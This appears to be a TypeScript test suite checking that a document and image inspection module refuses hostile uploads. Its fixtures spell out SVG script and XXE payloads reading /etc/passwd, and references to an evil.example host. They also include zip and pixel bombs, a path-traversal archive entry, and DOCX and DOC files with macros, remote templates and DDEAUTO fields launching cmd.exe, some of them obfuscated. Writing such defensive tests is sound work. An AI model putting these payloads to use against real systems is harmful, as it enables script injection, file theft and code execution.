import { inspect, type InspectionTask } from '../../../src/profiles/adapters/inspection/inspect.js';
import { anArchive } from '../../support/files/archives.js';
import { aDoc, aDocx, aDocxThatLoads, aPdf } from '../../support/files/documents.js';
import { aPicture, aPngBomb, anSvg } from '../../support/files/pictures.js';

const MEGABYTE = 1024 ** 2;
const SCRIPT = '<script>alert(1)</script>';
const DOCUMENT: InspectionTask = { formats: ['pdf', 'doc', 'docx'] };
const PICTURE: InspectionTask = {
  formats: ['jpeg', 'png', 'svg'],
  pictures: { sizes: [16], fit: 'inside', output: 'webp' },
};

describe('hostile content is refused', () => {
  const svgs: Record<string, Buffer | string> = {
    'a script': anSvg(SCRIPT),
    'a script in another namespace': anSvg('<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'),
    'an event handler': anSvg('<rect onclick="alert(1)"/>'),
    'a handler on the root': anSvg('', 'onload="alert(1)"'),
    'foreign content': anSvg('<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>'),
    'a link to a script': anSvg('<a href="javascript:alert(1)"><rect width="9" height="9"/></a>'),
    'an animation that sets a link': anSvg('<set attributeName="href" to="javascript:alert(1)"/>'),
    'an external picture': anSvg('<image href="https://evil.example/x.png"/>'),
    'a file on the server': anSvg(
      '<image xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="file:///etc/passwd"/>',
    ),
    'an external use element': anSvg('<use href="https://evil.example/x.svg#a"/>'),
    'a style that imports': anSvg('<style>@import "https://evil.example/x.css";</style>'),
    'an external fill': anSvg('<rect fill="url(https://evil.example/#a)"/>'),
    ...Object.fromEntries(
      [
        '@import',
        '@font-face',
        String.raw`fill:\75rl(x)`,
        'fill:url(x)',
        `fill:url( 'x#a')`,
        'width:expression(1)',
        'fill:JavaScript:1',
        '-moz-binding:x',
        'behavior : x',
      ].flatMap((style) => [
        [`the style ${style}`, anSvg(`<style>${style}</style>`)],
        [`an attribute with ${style}`, anSvg(`<rect style="${style}" width="9" height="9"/>`)],
      ]),
    ),
    'a style sheet': `<?xml-stylesheet href="https://evil.example/x.css"?>${anSvg().toString()}`,
    'an entity from a file': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${anSvg('<text>&x;</text>').toString()}`,
    'an entity expansion': `<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>${anSvg('<text>&b;</text>').toString()}`,
    'an external document type': `<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">${anSvg().toString()}`,
    'malformed XML': '<svg xmlns="http://www.w3.org/2000/svg"><rect></svg>',
    'another root element': '<html xmlns="http://www.w3.org/1999/xhtml"/>',
    'no content': '',
  };
  it.each(Object.entries(svgs))('as an SVG with %s', (_what, content) => expectRefused(content, PICTURE));

  const pictures: [string, () => Buffer | string | Promise<Buffer>][] = [
    ['a truncated PNG', async () => (await aPicture('png')).subarray(0, 300)],
    ['a truncated JPEG', async () => (await aPicture('jpeg')).subarray(0, 900)],
    ['a pixel bomb', () => aPngBomb()],
    ['a GIF', () => 'GIF89a'],
  ];
  it.each(pictures)('as %s', async (_what, make) => expectRefused(await make(), PICTURE));

  const documents: [string, () => Buffer | string][] = [
    ['HTML', () => `<html>${SCRIPT}</html>`],
    ['HTML before a PDF', () => `<html>${SCRIPT}</html>${aPdf().toString()}`],
    ['a truncated PDF', () => aPdf().subarray(0, 200)],
    ['another archive', () => anArchive([{ name: 'a.txt', content: 'a' }])],
    ['a zip bomb', () => aDocx({ name: 'word/a.bin', content: Buffer.alloc(40 * MEGABYTE) })],
    ['an entry name that leaves the folder', () => aDocx({ name: '../../evil.sh', content: 'rm' })],
    ['a DOCX with macros', () => aDocx({ name: 'word/vbaProject.bin', content: 'x' })],
    ['a DOCX with macros under another name', () => aDocxThatLoads('vbaProject', 'notes.dat')],
    ['a DOCX with an ActiveX control', () => aDocxThatLoads('control', 'activeX1.xml')],
    ['a DOCX with a template on another site', () => aDocxThatLoads('attachedTemplate', 'https://evil.example/a.dotm')],
    ['a DOCX with a template on a share', () => aDocxThatLoads('attachedTemplate', '\\\\evil.example\\a.dotm')],
    ['a DOCX with an object on another site', () => aDocxThatLoads('oleObject', 'http://evil.example/a.html!')],
    ['a DOCX with a frame of another site', () => aDocxThatLoads('frame', 'http://evil.example/')],
    ['a DOCX with a part of another site', () => aDocxThatLoads('aFChunk', 'mhtml:http://evil.example/a.mht')],
    ['a DOCX with a document of another format in it', () => aDocxThatLoads('aFChunk', 'chunk.mht', 'Internal')],
    ['a DOCX with a picture on a share', () => aDocxThatLoads('image', 'file://evil.example/a/b.png')],
    ['a DOCX with relationships too large to read', () => aDocx({ name: 'word/_rels/a.rels', content: largeText() })],
    ['a DOCX with a field that starts a program', () => aDocxWith(field(' DDEAUTO c:\\cmd.exe "/k calc" '))],
    ['a DOCX with such a field in pieces', () => aDocxWith(field('DD', 'E', ' c:\\cmd.exe'))],
    ['a DOCX with such a field in one element', () => aDocxWith('<w:fldSimple w:instr=" DDEAUTO c:\\cmd.exe"/>')],
    ['a DOCX with such a field in numbers', () => aDocxWith(field('QUOTE 68 68 69 65 85 84 79'))],
    ['a DOCX with such a field in UTF-16', () => aDocxWith(field('DDEAUTO c:\\cmd.exe'), 'utf16le')],
    ['a DOC with such a field', () => Buffer.concat([aDoc(), Buffer.from('\x13 DDEAUTO c:\\cmd.exe\x15', 'latin1')])],
    ['a DOC with such a field in UTF-16', () => Buffer.concat([aDoc(), Buffer.from('\x13 DDE excel', 'utf16le')])],
    ['a truncated DOCX', () => aDocx().subarray(0, 300)],
    ['a DOC with macros', () => aDoc('Macros')],
    ['a truncated compound file', () => aDoc().subarray(0, 1024)],
    ['text', () => 'Dear all'],
  ];
  it.each(documents)('as %s', (_what, make) => expectRefused(make(), DOCUMENT));

  async function expectRefused(content: Buffer | string, task: InspectionTask): Promise<void> {
    const { refusal } = (await inspect(Buffer.from(content), task)) as { refusal?: unknown };
    expect(refusal).toMatchObject({ what: expect.stringMatching(/^This .*\.$/) });
  }
});

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';

function aDocxWith(paragraph: string, encoding: 'utf8' | 'utf16le' = 'utf8'): Buffer {
  const text = `<w:document ${W}><w:body><w:p>${paragraph}</w:p></w:body></w:document>`;
  const content = Buffer.from(encoding === 'utf8' ? text : `\ufeff${text}`, encoding);
  return aDocx({ name: 'word/document.xml', content });
}

/** A field with its instruction in these pieces. */
function field(...pieces: readonly string[]): string {
  const instruction = pieces.map((piece) => `<w:r><w:instrText>${piece}</w:instrText></w:r>`).join('');
  return `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${instruction}<w:r><w:fldChar w:fldCharType="end"/></w:r>`;
}

/** Hardly compressible, and larger than a description of a document may be. */
function largeText(): string {
  return Array.from({ length: 80_000 }, () => Math.random().toString(36)).join('');
}
